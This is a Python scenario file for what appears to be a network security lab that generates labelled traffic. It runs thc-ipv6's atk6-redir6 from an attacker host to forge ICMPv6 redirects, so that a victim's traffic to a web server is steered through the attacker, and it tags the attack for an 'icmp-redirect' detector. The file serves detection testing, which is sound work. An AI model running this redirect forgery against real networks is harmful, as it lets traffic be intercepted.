"""atk6-redir6 forges a redirect of the router."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, router, www = net.inside("attacker"), net.router(), net.web(net.outside("www"))
    victim = net.inside("pc3")
    net.everyday()
    net.loop(victim, f"curl -s -m 3 -o /dev/null -g http://[{www.ip6}]/", 1.1)
    net.quiet(2)
    with net.attack(
        "icmp-redirect",
        by=attacker,
        attackers=[attacker.ip6],
        victims=[victim.ip6],
        frames="ip6 and ip6[6] == 58 and ip6[40] == 137",
        also=["ip-spoofing"],
    ):
        to = f"{www.ip6} {router.ip6} {attacker.ip6} {attacker.mac}"
        for _ in range(4):
            net.tool(attacker, *f"atk6-redir6 eth0 {victim.ip6} {to}".split(), seconds=5)
            net.quiet(1)
    net.quiet(2)


SCENARIO = Scenario(
    name="icmp-redirect-ipv6",
    about="atk6-redir6 tells a client, in the router's name, to send packets for a server to the attacker.",
    detectors=("icmp-redirect",),
    tools={"atk6-redir6": "thc-ipv6"},
    run=run,
    snap_octets=300,
)
